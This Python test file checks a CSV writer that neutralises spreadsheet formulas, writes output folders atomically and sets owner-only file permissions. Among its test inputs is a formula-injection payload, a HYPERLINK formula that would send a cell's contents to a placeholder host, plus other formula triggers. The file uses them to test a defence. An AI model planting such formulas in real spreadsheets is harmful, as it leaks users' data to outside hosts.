"""io/output.py: spreadsheet-safe CSV and all-or-nothing output folders (RELIABILITY.md §2, §8)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from netmix.io.output import EXCEL_CELL_LIMIT, OutputDir, csv_bytes, safe_cell


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x/?"&A1,"hi")', "+1 555", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"])
def test_formula_triggers_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Zoë", "a=b", "1+1", "", "'already"])
def test_ordinary_values_pass(value):
    assert safe_cell(value) == value


def test_numbers_pass_unchanged():
    assert safe_cell(-3) == -3


def test_round_trip_through_csv_reader_with_quotes_commas_newlines():
    values = ['a,"=1+1', "line1\nline2", 'say "hi"', "@handle", "x\x00y", "Zoë"]
    df = pd.DataFrame({"name": values, "n": ["1"] * len(values)})
    data = csv_bytes(df)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ['a,"=1+1', "line1\nline2", 'say "hi"', "'@handle", "xy", "Zoë"]
    assert all(len(r) == 2 for r in rows)


def test_bom_and_crlf():
    data = csv_bytes(pd.DataFrame({"a": ["1"]}))
    assert data == b"\xef\xbb\xbfa\r\n1\r\n"


def test_huge_cell_capped_at_the_excel_limit():
    out = safe_cell("x" * 40_000)
    assert len(out) == EXCEL_CELL_LIMIT == 32_767 and out.endswith("[truncated]")


def test_raw_csv_keeps_values():
    data = csv_bytes(pd.DataFrame({"a": ["=1"]}), spreadsheet=False)
    assert data == b"a\n=1\n"


def test_exception_mid_run_leaves_previous_outputs_byte_identical(tmp_path):
    with OutputDir(tmp_path / "out") as out:
        out.write("contacts.csv", b"old contacts")
        out.write("sub/summary.json", b"{}")
    before = {p: p.read_bytes() for p in (tmp_path / "out").rglob("*") if p.is_file()}
    with pytest.raises(RuntimeError), OutputDir(tmp_path / "out") as out:
        out.write("contacts.csv", b"new contacts")
        raise RuntimeError("crash after half the files")
    after = {p: p.read_bytes() for p in (tmp_path / "out").rglob("*") if p.is_file()}
    assert after == before
    assert not list((tmp_path / "out").glob(".netmix-tmp-*"))


def test_successful_run_publishes_every_file(tmp_path):
    with OutputDir(tmp_path / "out") as out:
        out.write_csv("a.csv", pd.DataFrame({"x": ["1"]}))
        out.write_json("b.json", {"z": 1, "a": [2]})
    assert (tmp_path / "out" / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (tmp_path / "out" / "b.json").read_text() == '{\n  "a": [\n    2\n  ],\n  "z": 1\n}\n'
    assert not list((tmp_path / "out").glob(".netmix-tmp-*"))
def test_output_files_are_owner_only(tmp_path):
    import stat

    from netmix.io.output import OutputDir, write_atomic

    with OutputDir(tmp_path / "out") as out:
        out.write("a.csv", b"x")
    write_atomic(tmp_path / "b.html", b"y")
    for p in (tmp_path / "out" / "a.csv", tmp_path / "b.html"):
        assert stat.S_IMODE(p.stat().st_mode) == 0o600  # contact lists are other people's personal data
